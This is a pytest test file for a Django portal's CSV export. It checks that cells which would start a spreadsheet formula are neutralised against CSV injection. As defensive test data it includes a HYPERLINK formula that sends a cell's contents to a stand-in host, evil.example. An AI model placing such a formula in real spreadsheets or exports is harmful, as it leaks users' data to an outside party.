"""CSV the portal writes cannot run as a formula in a spreadsheet (OWASP: CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from portal.csvsafe import SafeDictWriter, SafeWriter, neutralized
from scoring import services
from scoring.models import ScoreSnapshot

pytestmark = pytest.mark.usefixtures("rules_2022_only")

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Contoso = Security", "Contoso = Security"),
        ("", ""),
        (-5, -5),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_text_that_would_start_a_formula_is_prefixed_and_numbers_stay_numbers(cell, written):
    assert neutralized(cell) == written


def test_writers_neutralize_every_text_cell():
    out = io.StringIO()
    SafeWriter(out, lineterminator="\n").writerow([HYPERLINK, -5, "Fabrikam"])
    SafeDictWriter(out, ["name", "gap"], lineterminator="\n").writerow(
        {"name": "@cmd", "gap": Decimal("-1.5")}
    )

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'" + HYPERLINK, "-5", "Fabrikam"],
        ["'@cmd", "-1.5"],
    ]


def test_export_scores_csv_neutralizes_codes_and_keeps_numbers(org):
    services.scores_recompute(organization_ids=[org.pk], as_of=date(2024, 6, 30))
    snapshot = ScoreSnapshot.objects.for_org(org).filter(designation__code="security").get()
    snapshot.metrics[0] = {**snapshot.metrics[0], "code": HYPERLINK, "gap": -3}
    snapshot.save()
    out = StringIO()

    call_command(
        "export_scores", "--as-of", "2024-06-30", "--org", org.partner_id, "--format", "csv",
        stdout=out,
    )  # fmt: skip

    rows = list(csv.DictReader(StringIO(out.getvalue())))
    crafted = [row for row in rows if row["metric"].endswith(HYPERLINK)]
    assert [(row["metric"], row["gap"]) for row in crafted] == [("'" + HYPERLINK, "-3")]
    assert not [row for row in rows if row["metric"][:1] in "=+-@\t\r"]


def test_no_code_writes_csv_past_the_safe_writer():
    """Every CSV writer goes through portal/csvsafe.py, the one place that neutralizes cells."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for package in ("portal", "scoring", "benefits")
        for path in (ROOT / package).rglob("*.py")
        if path.name != "csvsafe.py" and writers.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []
